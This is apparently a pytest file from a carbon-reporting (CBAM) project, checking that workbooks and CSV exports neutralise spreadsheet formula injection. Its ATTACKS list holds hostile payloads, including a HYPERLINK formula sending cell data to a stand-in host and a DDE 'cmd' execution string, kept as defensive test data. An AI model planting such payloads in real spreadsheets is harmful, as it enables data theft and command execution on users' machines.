"""Spreadsheets we write are inert (issue 19, finding 3): user text never becomes a formula
in the CBAM workbooks or the factor CSV export, and numbers stay numbers."""

from __future__ import annotations

import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
import yaml

from lca_models.cbam import compute_report, load_report_data
from lca_models.cbam_report import to_xlsx
from lca_models.cbam_xlsx import read_input_xlsx, write_input_xlsx
from lca_models.factors import export_rows, read_csv_rows
from lca_models.inert import inert_text, restore_text

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "cbam" / "steel-eaf-guangzhou.yaml"
ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
           "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_starts_get_a_quote_and_come_back(text):
    assert inert_text(text) == "'" + text
    assert restore_text(inert_text(text)) == text


@pytest.mark.parametrize("text", ["-12.5", "+3", "-0", "1e-3", "Steel", "Guangzhou-1", ""])
def test_plain_numbers_and_ordinary_text_are_unchanged(text):
    assert inert_text(text) == text == restore_text(text)


def _formulas(path: Path) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets, read from the raw XML."""
    with zipfile.ZipFile(path) as zf:
        return [name for name in zf.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in zf.read(name)]


def _poisoned_input() -> dict:
    data = yaml.safe_load(EXAMPLE.read_text("utf-8"))
    data["installation"]["name_en"] = ATTACKS[0]
    data["goods"][0]["name"] = ATTACKS[1]
    data["processes"][0]["name"] = ATTACKS[4]
    return data


def test_the_input_workbook_writes_text_cells_and_reads_back_the_same(tmp_path):
    data = _poisoned_input()
    path = write_input_xlsx(data, tmp_path / "input.xlsx")
    assert _formulas(path) == []
    book = openpyxl.load_workbook(path)
    cells = [c for ws in book for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("'=")]
    assert {c.value for c in cells} == {"'" + ATTACKS[0], "'" + ATTACKS[1]}
    assert all(c.data_type == "s" for c in cells)
    numbers = [c.value for c in book["Goods"]["E"][1:] if c.value is not None]
    assert numbers and all(isinstance(v, int | float) for v in numbers)
    again = read_input_xlsx(path)
    assert again["installation"]["name_en"] == ATTACKS[0]
    assert again["goods"][0]["name"] == ATTACKS[1]
    assert again["processes"][0]["name"] == ATTACKS[4]


def test_the_report_workbook_for_importers_has_no_formulas(tmp_path, release):
    report = compute_report(load_report_data(_poisoned_input()), release)
    path = to_xlsx(report, tmp_path / "report.xlsx")
    assert _formulas(path) == []
    summary = openpyxl.load_workbook(path)["Summary_Communication"]
    values = {c.value for row in summary.iter_rows() for c in row}
    assert "'" + ATTACKS[0] in values and ATTACKS[0] not in values
    numbers = [c.value for row in summary.iter_rows() for c in row
               if isinstance(c.value, int | float)]
    assert numbers, "numeric results must stay numbers"


def test_the_factor_csv_export_neutralises_text_and_round_trips(release):
    rows = [dict(r) for r in release.rows[:2]]
    rows[0]["source"] = "=HYPERLINK(\"http://evil.example\")"
    negative = next((k for k, v in rows[1].items() if isinstance(v, float)), None)
    if negative:
        rows[1][negative] = -abs(rows[1][negative]) or -1.0
    text = export_rows(replace(release, rows=tuple(rows)))
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    back = read_csv_rows(text, "export")
    assert back[0]["source"] == rows[0]["source"]
    if negative:  # a negative number is written as a number, not quoted
        assert float(back[1][negative]) == rows[1][negative] < 0
